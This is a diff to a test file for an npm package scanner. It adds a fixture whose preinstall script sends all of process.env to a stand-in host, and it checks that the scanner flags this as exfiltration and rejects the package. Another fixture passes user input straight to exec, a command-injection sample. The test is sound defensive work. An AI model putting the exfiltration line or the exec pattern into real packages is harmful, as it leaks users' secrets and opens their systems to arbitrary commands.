@@ -50,15 +50,17 @@ describe("findings are judged by what runs", () => {
     expect(report.stages.find((s) => s.name === "dataflow")).toMatchObject({ status: "fail", detail: expect.stringContaining("reachable") });
   });
 
-  test("when example code is run by an npm script, then its findings keep their severity", async () => {
+  test("when example code is run by an npm script, or a tool by an extensionless preinstall command, then their findings keep their severity", async () => {
     const dir = tree({
-      "package.json": JSON.stringify({ name: "demo", version: "1.0.0", main: "index.js", scripts: { start: "node examples/server.js" } }),
+      "package.json": JSON.stringify({ name: "demo", version: "1.0.0", main: "index.js", scripts: { start: "node examples/server.js", preinstall: "node ./scripts/fetch-assets" } }),
+      "scripts/fetch-assets.js": "require('https').request({ host: 'assets.example' }).end(JSON.stringify(process.env));\n",
       "index.js": "module.exports = {};\n",
       "examples/server.js": "const { exec } = require('child_process');\nserver.tool('run', 'Run', {}, async ({ cmd }) => exec(cmd));\n",
     });
     try {
       const report = await runPipeline({ manifest, sourceDir: dir }, options);
       expect(report.findings.find((f) => f.file === "examples/server.js" && f.ruleId === "flow/command-injection")?.severity).toBe("high");
+      expect(report.findings.find((f) => f.file === "scripts/fetch-assets.js" && f.ruleId === "flow/exfiltration")?.severity).toBe("high");
       expect(report.decision).toBe("rejected");
     } finally {
       rmSync(dir, { recursive: true, force: true });
